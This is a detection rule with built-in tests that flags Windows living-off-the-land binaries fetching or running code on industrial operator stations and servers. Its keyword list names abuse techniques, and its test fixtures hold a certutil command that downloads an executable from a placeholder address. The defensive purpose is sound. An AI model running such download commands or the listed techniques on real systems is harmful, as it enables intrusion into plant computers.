# Operator stations and servers of a plant have no use for programs of Windows that fetch or
# register what stands behind an address.
rule living_off_the_land_on_ot_host {
    meta {
        id = "OT-WINDOWS-0010"
        sid = 9300010
        rev = 1
        severity = high
        attack = [ics.T0894, ics.T0867, enterprise.T1218]
        description = "A program of Windows is used to fetch or run code on a computer of the plant"
        falsepositives = "none known on such computers"
    }
    on process as e
    where e.host.asset.role in { hmi, scada, historian, engineering, jump_host }
        and e.image.name in {
            "certutil.exe", "bitsadmin.exe", "regsvr32.exe", "rundll32.exe",
            "msiexec.exe", "installutil.exe", "cmstp.exe", "hh.exe"
        }
        and e.command_line contains any i{
            "http://", "https://", "urlcache", "scrobj.dll", "javascript:", "/transfer"
        }
    dedup by (e.host.name, e.image) for 1h
    emit {
        title = "{e.image.name} fetches or runs code on {e.host.asset.name ?? e.host.name}"
        evidence = [e.command_line, e.user, e.parent.image]
    }

    test "as it is seen" {
        at 0s process {
            host.name: "HMI-1", host.asset.role: hmi,
            image: "C:\\Windows\\System32\\certutil.exe",
            command_line: "certutil -urlcache -f http://192.0.2.1/a a.exe"
        }
        expect match
    }

    test "on a server of the office" {
        at 0s process {
            host.name: "HMI-1", host.asset.role: server,
            image: "C:\\Windows\\System32\\certutil.exe",
            command_line: "certutil -urlcache -f http://192.0.2.1/a a.exe"
        }
        expect none
    }

    test "another program" {
        at 0s process {
            host.name: "HMI-1", host.asset.role: hmi, image: "C:\\Tools\\fetch.exe",
            command_line: "certutil -urlcache -f http://192.0.2.1/a a.exe"
        }
        expect none
    }

    test "a certificate is shown" {
        at 0s process {
            host.name: "HMI-1", host.asset.role: hmi,
            image: "C:\\Windows\\System32\\certutil.exe",
            command_line: "certutil -dump a.cer"
        }
        expect none
    }
}
